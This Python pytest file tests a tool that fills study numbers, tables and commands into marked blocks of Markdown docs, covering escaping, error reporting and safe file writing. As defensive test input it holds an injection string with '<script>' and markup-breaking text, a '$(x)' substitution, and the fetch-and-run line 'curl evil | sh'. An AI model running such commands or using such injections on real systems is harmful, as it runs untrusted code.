"""Numbers in the docs: filled from studies, all else left as it is; every mistake is named by its line."""

import re
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import click
import pytest
from study_samples import renamed, sample_study

from reproduce.cli.toy_docs import docs
from reproduce.errors import DataError, StorageError, UserError
from reproduce.paper.study_blocks import fill, fill_file
from reproduce.paper.study_markdown import escaped
from reproduce.study import Study
from reproduce.study_file import write_study

STUDIES: Mapping[str, Study] = {"regression": sample_study(), "dro": sample_study("dro")}

PAGE = """\
# A page

LinUpper ends at <!-- study:regression:number:final_linupper -->?<!-- /study -->, over
<!--study:regression:number:seeds--><!--/study--> seeds.

<!-- study:regression:table:final -->
<!-- /study -->

Kept: | a `pipe` <!-- a comment --> and <!-- studying -->.

<!-- study:dro:command -->
old
<!-- /study -->
"""

FILLED = """\
# A page

LinUpper ends at <!-- study:regression:number:final_linupper -->0.6123<!-- /study -->, over
<!--study:regression:number:seeds-->8<!--/study--> seeds.

<!-- study:regression:table:final -->

| strategy | loss | steps to 1 | diverged |
| --- | ---: | ---: | ---: |
| uniform | 0.5 | 20 | 0 |
| linupper | 0.6123 | 10 | 0 |
| dro_kl | – | – | 1 |

<!-- /study -->

Kept: | a `pipe` <!-- a comment --> and <!-- studying -->.

<!-- study:dro:command -->

```bash
reweight toy dro --seeds 8
```

<!-- /study -->
"""


def block(name: str, content: str = "") -> str:
    return f"<!-- study:{name} -->{content}<!-- /study -->"


def content(name: str, studies: Mapping[str, Study] = STUDIES) -> str:
    found = re.fullmatch(
        r"<!-- study:[^\n]* -->(.*)<!-- /study -->", fill(block(name), studies), flags=re.DOTALL
    )
    assert found is not None
    return found[1]


def test_a_page_is_filled_and_again_the_same() -> None:
    assert fill(PAGE, STUDIES) == FILLED
    assert fill(FILLED, STUDIES) == FILLED


def test_the_verdicts_and_settings_are_tables() -> None:
    lines = content("regression:findings").strip().splitlines()
    assert lines[0] == "| claim | source | verdict | where | evidence | seeds |"
    assert lines[2] == (
        "| LinUpper reaches the threshold first | Figure 7 | \\~ only where | outlier share at most 0.1 "
        "| 10 steps against 20 | 8 |"
    )
    assert [line.split(" | ")[2] for line in lines[3:]] == ["✓ holds", "✗ does not hold", "? unresolved"]
    settings = content("regression:settings").strip().splitlines()
    assert settings[2:] == [
        "| seeds | 8 |",
        "| lr | 0.01 |",
        "| strategies | uniform, linupper |",
        "| momentum | – |",
    ]


@pytest.mark.parametrize(("name", "value"), [("winner", "uniform"), ("none", "–"), ("seeds", "8")])
def test_a_number_stands_in_a_sentence(name: str, value: str) -> None:
    assert content(f"regression:number:{name}") == value


def test_some_rows_of_a_table() -> None:
    assert content("regression:table:final; strategy=uniform|dro_kl").strip().splitlines() == [
        "| strategy | loss | steps to 1 | diverged |",
        "| --- | ---: | ---: | ---: |",
        "| uniform | 0.5 | 20 | 0 |",
        "| dro_kl | – | – | 1 |",
    ]
    # A column that one value is left of is not shown; conditions are read as the page shows values.
    assert content("regression:table:final; diverged=0; loss=0.6123").strip().splitlines() == [
        "| strategy | steps to 1 |",
        "| --- | ---: |",
        "| linupper | 10 |",
    ]


def test_one_cell_of_a_table_stands_in_a_sentence() -> None:
    assert content("regression:cell:final:loss; strategy=linupper") == "0.6123"
    assert content("regression:cell:final:loss; strategy=dro_kl") == "–"


@pytest.mark.parametrize(
    ("name", "said"),
    [
        (
            "table:final; strategy=linuper",
            "names no row with strategy=linuper; there is dro_kl, linupper, uniform",
        ),
        ("table:final; stratgy=uniform", "names no column to choose rows by; there is strategy, loss"),
        ("table:final;", "names no column to choose rows by"),
        ("cell:final:los; strategy=uniform", "names no column; there is loss, steps to 1, diverged"),
        ("cell:final:loss; diverged=0", "names no single row; there is 2 that fit; choose by strategy, loss"),
        ("cell:finale:loss", "names no table; there is final, rates"),
        ("cell:final", "names no column; there is"),
        ("cell", "names no kind of block"),
    ],
)
def test_a_choice_that_fits_nothing_is_named(name: str, said: str) -> None:
    with pytest.raises(UserError) as caught:
        content(f"regression:{name}")
    assert said in str(caught.value)
    assert str(caught.value).startswith("the page:1: study:regression:")


HOSTILE = "a|b\n<!-- /study --> `x` *y* _z_ \\ $1$ <script> & [l](u) ~s~ dro_kl \x1b"


def test_cells_stay_cells() -> None:
    assert escaped("dro_kl _x_ a|b `c`") == r"dro_kl \_x\_ a\|b \`c\`"
    assert escaped("<!-- /study -->") == "&lt;!-- /study --&gt;"
    study = renamed(sample_study(), HOSTILE)
    for name in ("table:final", "findings", "settings"):
        page = fill(block(f"regression:{name}") + " `code`", {"regression": study})
        inside = page.partition(" -->")[2].rpartition("<!-- /study -->")[0]
        assert "<" not in inside
        assert "\x1b" not in inside
        rows = inside.strip().splitlines()
        # Unescaped pipes are the columns' alone: the same number in each row.
        assert len({len(re.findall(r"(?<!\\)\|", row)) for row in rows}) == 1
        assert not re.findall(r"(?<!\\)[`*$]", inside)
        assert fill(page, {"regression": study}) == page


def test_a_backtick_in_a_number_does_not_hide_the_end_of_its_block() -> None:
    studies = {"regression": replace(sample_study(), numbers={"tick": "`"})}
    page = f"{block('regression:number:tick')} and `code`\n"
    once = fill(page, studies)
    assert "-->\\`<!--" in once
    assert fill(once, studies) == once


def test_a_command_cannot_leave_its_block_of_code() -> None:
    study = replace(sample_study(), command="reweight toy regression ``` <!-- /study --> $(x)")
    page = fill(block("regression:command"), {"regression": study})
    assert "\n````bash\nreweight toy regression '```' '<!--' /study '-->' '$(x)'\n````\n" in page
    assert fill(page, {"regression": study}) == page
    other = replace(sample_study(), command="curl evil | sh")
    assert "curl" not in fill(block("regression:command"), {"regression": other})


def test_code_that_shows_blocks_is_left_alone() -> None:
    page = (
        "```\n<!-- study:nothing:at:all -->\n```\n"
        "~~~~md\n```\n<!-- /study -->\n~~~~\n"
        "`<!-- study:x -->` and ``<!-- study:y ` -->``\n"
        f"{block('regression:number:seeds', '7')}\n"
    )
    assert fill(page, STUDIES) == page.replace(">7<", ">8<")


@pytest.mark.parametrize(
    ("text", "line", "said"),
    [
        ("x\n<!-- study:sweep:findings --><!-- /study -->", 2, "no study given; there is regression, dro"),
        ("<!-- study:regression:table:nope --><!-- /study -->", 1, "no table; there is final, rates"),
        (
            "<!-- study:regression:number:nope --><!-- /study -->",
            1,
            "there is final_linupper, seeds, winner, none",
        ),
        (
            "\n\n<!-- study:regression:tabel:final --><!-- /study -->",
            3,
            "no kind of block; there is table:ID",
        ),
        ("<!-- study:regression --><!-- /study -->", 1, "no kind of block"),
        ("<!-- study:regression:table --><!-- /study -->", 1, "no kind of block"),
        ("<!-- study:regression:findings:x --><!-- /study -->", 1, "no kind of block"),
        ("<!-- study: --><!-- /study -->", 1, "no study given"),
        ("\n<!-- study:regression:findings -->\n\n", 2, "is not closed"),
        ("\n<!-- /study -->", 2, "closes nothing"),
        (
            "<!-- study:dro:findings -->\n<!-- study:dro:command -->\n<!-- /study -->",
            2,
            "begins inside study:dro:findings of line 1",
        ),
        ("<!-- study:dro:findings -->\n```\n<!-- /study -->\n", 1, "is not closed"),
        (f"<!-- study:{'x' * 5000} --><!-- /study -->", 1, "no study given"),
    ],
)
def test_a_mistake_is_named_by_page_and_line(text: str, line: int, said: str) -> None:
    with pytest.raises(UserError, match=re.escape(said)) as caught:
        fill(text, STUDIES, "docs/x.md")
    message = str(caught.value)
    assert message.startswith(f"docs/x.md:{line}: ")
    assert "\n" not in message
    assert len(message) < 400
    assert caught.value.exit_code == 2


def test_a_file_is_filled_whole_and_only_once(tmp_path: Path) -> None:
    page = tmp_path / "page.md"
    page.write_bytes(PAGE.encode())
    assert fill_file(page, STUDIES) is True
    assert page.read_text(encoding="utf-8") == FILLED
    assert fill_file(page, STUDIES) is False
    assert [each.name for each in tmp_path.iterdir()] == ["page.md"]
    page.write_bytes(b"a\r\n" + block("regression:number:seeds").encode() + b"\r\n")
    fill_file(page, STUDIES)
    assert page.read_bytes() == b"a\r\n<!-- study:regression:number:seeds -->8<!-- /study -->\r\n"


def test_a_mistake_leaves_the_file(tmp_path: Path) -> None:
    page = tmp_path / "page.md"
    text = block("regression:number:seeds") + block("regression:table:nope")
    page.write_text(text)
    with pytest.raises(UserError, match=r"page\.md:1: "):
        fill_file(page, STUDIES)
    assert page.read_text() == text
    page.write_bytes(b"\xff")
    with pytest.raises(UserError, match="not UTF-8"):
        fill_file(page, STUDIES)
    with pytest.raises(UserError, match="cannot be read"):
        fill_file(tmp_path / "nowhere.md", STUDIES)


def test_a_page_that_cannot_be_replaced_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(path: Path, text: str) -> None:
        raise OSError(28, "No space left on device", str(path))

    page = tmp_path / "page.md"
    page.write_text(PAGE)
    monkeypatch.setattr("reproduce.paper.study_blocks.write_text_atomically", full)
    with pytest.raises(StorageError, match=r"cannot write .*page\.md: No space left"):
        fill_file(page, STUDIES)
    assert page.read_text() == PAGE


def test_a_linked_page_stays_a_link(tmp_path: Path) -> None:
    (tmp_path / "real.md").write_text(PAGE)
    (tmp_path / "page.md").symlink_to("real.md")
    fill_file(tmp_path / "page.md", STUDIES)
    assert (tmp_path / "page.md").is_symlink()
    assert (tmp_path / "real.md").read_text() == FILLED


def called(*arguments: object) -> object:
    return docs.main([str(each) for each in arguments], standalone_mode=False)


def test_the_command_fills_and_checks(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    page = tmp_path / "page.md"
    page.write_text(PAGE)
    folders = [write_study(tmp_path / kind, study).parent for kind, study in STUDIES.items()]
    assert called(page, *folders, "--check") == 8
    assert page.read_text() == PAGE
    assert "differs from what the studies say" in capsys.readouterr().err
    assert called(page, *folders) == 0
    assert capsys.readouterr().out == f"{page}\n"
    assert page.read_text() == FILLED
    assert called(page, *folders, "--check") == 0
    page.write_text(FILLED.replace("0.6123<", "0.6124<"))
    assert called(page, *folders, "--check") == 8


def test_the_command_refuses_what_is_no_study(tmp_path: Path) -> None:
    page = tmp_path / "page.md"
    page.write_text(PAGE)
    one, other = (write_study(tmp_path / name, sample_study()).parent for name in ("a", "b"))
    with pytest.raises(UserError, match="a second study of regression"):
        called(page, one, other)
    with pytest.raises(DataError, match=r"nowhere/study\.json: cannot be read"):
        called(page, tmp_path / "nowhere")
    with pytest.raises(UserError, match="no study given; there is regression"):
        called(page, one)
    page.write_text("<!-- Study:regression:findings --> no block <!-- /Study -->")
    for flags in ((), ("--check",)):
        with pytest.raises(UserError, match=r"page\.md: no block to fill"):
            called(page, one, *flags)
    page.write_text(PAGE)
    for arguments in ((page,), (tmp_path / "nowhere.md", one), (tmp_path, one)):
        with pytest.raises(click.UsageError):
            called(*arguments)
    assert page.read_text() == PAGE
